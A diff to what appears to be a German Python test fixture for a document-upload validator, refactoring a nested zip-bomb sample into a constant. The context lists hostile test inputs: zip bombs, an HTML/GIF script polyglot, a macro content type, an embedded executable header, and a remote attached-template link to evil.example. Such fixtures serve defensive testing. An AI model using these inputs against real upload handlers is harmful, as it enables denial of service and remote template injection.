@@ -20,6 +20,7 @@ HTML = b"<!doctype html><script>alert(1)</script>"
 GIF_JS = b"GIF89a/*" + b"\0" * 20 + b"*/=alert(1);//\0;"
 OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 2000
 NULLEN = b"\0" * (30 * 1024 * 1024)
+INNERE_BOMBE = gepackt({"a": b"", "b": NULLEN[:10_000_000]})
 MAKRO = "application/vnd.ms-word.document.macroEnabled.main+xml"
 VORLAGE = (
     b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="https://evil.example/x.dotm" '
@@ -107,7 +108,7 @@ BOESE: dict[str, tuple[str, bytes, str]] = {
     "Verhältnis über 100": ("x.xlsx", ooxml("xlsx", xl__a_x_xml=NULLEN[:20_000_000]), "entpackt zu groß"),
     "Bombe, die sich kleiner nennt": ("x.docx", _verlogen(), "beschädigt"),
     "Bombe aus überlagerten Teilen": ("x.odt", _ueberlagert(), "überlagern"),
-    "Bombe in der Bombe": ("x.docx", ooxml(word__x_x_zip=gepackt({"a": b"", "b": NULLEN[:10_000_000]})), "weitere Datei"),
+    "Bombe in der Bombe": ("x.docx", ooxml(word__x_x_zip=INNERE_BOMBE), "weitere Datei"),
     "Archiv darin": ("x.xlsx", ooxml("xlsx", xl__y_x_bin=gepackt({"a": b"b"})), "weitere Datei"),
     "Programm darin": ("x.docx", ooxml(word__media__bild_x_png=b"MZ\x90" + b"\0" * 99), "weitere Datei"),
     "zu viele Teile": ("x.docx", gepackt({f"{n}": b"" for n in range(5_001)}, stufe=1), "zu vielen Teilen"),
